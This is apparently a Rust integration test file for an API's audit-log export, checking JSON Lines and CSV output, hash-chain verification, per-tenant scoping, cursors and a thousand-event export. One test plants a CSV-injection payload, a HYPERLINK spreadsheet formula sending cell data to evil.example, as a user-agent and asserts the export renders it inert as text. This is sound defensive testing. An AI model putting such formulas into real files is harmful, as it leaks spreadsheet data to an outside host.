//! The audit log as customers retrieve it: an export verifies, as JSON Lines and as CSV,
//! and a long log is exported whole.

use super::*;

#[test]
fn the_exported_audit_log_verifies_and_the_csv_has_one_row_per_event() {
    let server = Server::start();
    let admin = server.admin();
    let acme = server.customer(&admin, "acme");
    assert_eq!(server.login(ADMIN_EMAIL, "not-the-password").status, 401);
    // A client that names itself as a spreadsheet formula.
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
    let r = server.send(
        server
            .request(reqwest::Method::POST, "/api/v1/auth/login")
            .header("user-agent", formula)
            .json(&json!({ "email": ADMIN_EMAIL, "password": "not-it-either" })),
    );
    assert_eq!(r.status, 401);
    admin
        .delete(&format!("/api/v1/tokens/{}", acme.token_id))
        .expect(204);

    let events = admin.audit_events();
    let jsonl = admin.get("/api/v1/audit/export?format=jsonl");
    assert_eq!(jsonl.status, 200);
    let exported: Vec<loop_api::AuditEvent> = jsonl
        .body
        .lines()
        .map(|l| serde_json::from_str(l).expect("one audit event per line"))
        .collect();
    assert_eq!(exported, events);
    assert_eq!(
        loop_api::audit::verify(&exported),
        Ok(events.len() as u64),
        "the exported chains verify"
    );
    let tenants: BTreeSet<&str> = exported.iter().map(|e| e.tenant_id.as_str()).collect();
    assert_eq!(tenants.len(), 2, "the provider's chain and acme's");
    assert!(
        exported
            .iter()
            .any(|e| e.action == "auth.signin" && e.outcome == Outcome::Failure)
    );

    let csv = admin.get("/api/v1/audit/export?format=csv");
    assert_eq!((csv.status, csv.content_type.as_str()), (200, "text/csv"));
    let mut lines = csv.body.lines();
    assert_eq!(
        lines.next(),
        Some(
            "tenant_id,seq,version,at,actor_kind,actor_id,action,object_kind,object_id,outcome,details,ip,user_agent,personal_salt,personal_hash,prev_hash,hash"
        )
    );
    let rows: Vec<&str> = lines.collect();
    assert_eq!(rows.len(), events.len());
    for (row, e) in rows.iter().zip(&events) {
        assert!(
            row.starts_with(&format!("{},{},", e.tenant_id, e.seq)),
            "{row}"
        );
        assert!(
            row.ends_with(&format!(",{},{}", e.prev_hash, e.hash)),
            "{row}"
        );
    }
    // The formula is text in the CSV (and exact in JSON Lines).
    assert!(
        exported
            .iter()
            .any(|e| e.user_agent.as_deref() == Some(formula))
    );
    let quoted = format!("\"'{}\"", formula.replace('"', "\"\""));
    assert!(csv.body.contains(&format!(",{quoted},")), "{}", csv.body);
    assert!(!csv.body.contains(&format!(",{formula}")), "{}", csv.body);

    // A customer's admin exports only their own chain, and it verifies on its own.
    let acme_admin = server.as_member(acme.member("admin"));
    let own: Vec<loop_api::AuditEvent> = acme_admin
        .get("/api/v1/audit/export")
        .body
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(!own.is_empty());
    assert!(own.iter().all(|e| e.tenant_id == acme.tenant_id));
    assert_eq!(loop_api::audit::verify(&own), Ok(own.len() as u64));

    // A sequence number counts within one tenant: a cursor over several is refused, and
    // within one it gives the events after it (the caller's only tenant needs no name).
    for path in [
        "/api/v1/audit?after_seq=1",
        "/api/v1/audit/export?after_seq=1",
    ] {
        let r = admin.get(path);
        assert_eq!(r.status, 400, "{path}: {}", r.body);
        assert!(r.body.contains("tenant_id"), "{}", r.body);
    }
    let after: Vec<loop_api::AuditEvent> = admin
        .get(&format!(
            "/api/v1/audit/export?tenant_id={}&after_seq=1",
            acme.tenant_id
        ))
        .body
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(after, own[1..], "the provider's cursor within acme");
    let listed: Vec<loop_api::AuditEvent> =
        serde_json::from_value(acme_admin.get("/api/v1/audit?after_seq=1").expect(200)).unwrap();
    assert_eq!(listed, own[1..], "acme's admin's cursor");
}

#[test]
fn an_export_of_a_long_audit_log_holds_every_event() {
    let server = Server::start();
    let admin = server.admin();
    let provider = admin.provider_tenant_id();
    let user = admin
        .post(
            "/api/v1/users",
            json!({ "tenant_id": provider, "email": "pat@example.org",
                    "first_name": "Pat", "last_name": "Doe" }),
        )
        .expect(201);
    let path = format!("/api/v1/users/{}", user["user"]["id"].as_str().unwrap());
    for n in 0..1000 {
        admin
            .patch(&path, json!({ "last_name": format!("Doe {n}") }))
            .expect(200);
    }
    let events = admin.audit_events();
    assert!(events.len() > 1000);
    let exported = admin.get("/api/v1/audit/export").body;
    assert_eq!(
        exported.lines().count(),
        events.len(),
        "the export holds the whole log"
    );
}
